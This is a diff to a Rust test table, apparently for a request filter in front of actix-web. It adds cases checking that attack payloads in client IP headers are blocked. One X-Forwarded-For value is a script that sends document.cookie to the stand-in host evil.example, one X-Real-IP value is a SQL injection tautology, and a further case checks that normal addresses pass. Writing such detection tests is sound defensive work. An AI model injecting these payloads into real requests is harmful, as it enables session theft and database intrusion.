@@ -1527,6 +1527,36 @@ pub fn table() -> Vec<Case> {
     c.headers
         .push(("forwarded", "for=192.0.2.60;host=evil.example".into()));
     v.push(c);
+    // Client addresses a client wrote: logged and shown by applications,
+    // and handed over unparsed by actix-web's `realip_remote_addr`.
+    let mut c = case(
+        "xss in x-forwarded-for",
+        "GET",
+        "/",
+        Blocked("xss", "headers_values"),
+    );
+    c.headers.push((
+        "x-forwarded-for",
+        "<script>fetch('//evil.example/'+document.cookie)</script>".into(),
+    ));
+    v.push(c);
+    let mut c = case(
+        "sqli in x-real-ip",
+        "GET",
+        "/",
+        Blocked("sqli", "headers_values"),
+    );
+    c.headers.push(("x-real-ip", "1.2.3.4' or '1'='1".into()));
+    v.push(c);
+    let mut c = case("forwarding addresses", "GET", "/", Served);
+    c.headers
+        .push(("x-forwarded-for", "203.0.113.7, 10.0.0.1".into()));
+    c.headers.push(("x-real-ip", "203.0.113.7".into()));
+    c.headers.push((
+        "forwarded",
+        "for=\"[2001:db8:cafe::17]:4711\";proto=https".into(),
+    ));
+    v.push(c);
     let mut c = case("forwarded own host", "GET", "/", Served);
     c.headers.push(("x-forwarded-host", "localhost".into()));
     v.push(c);
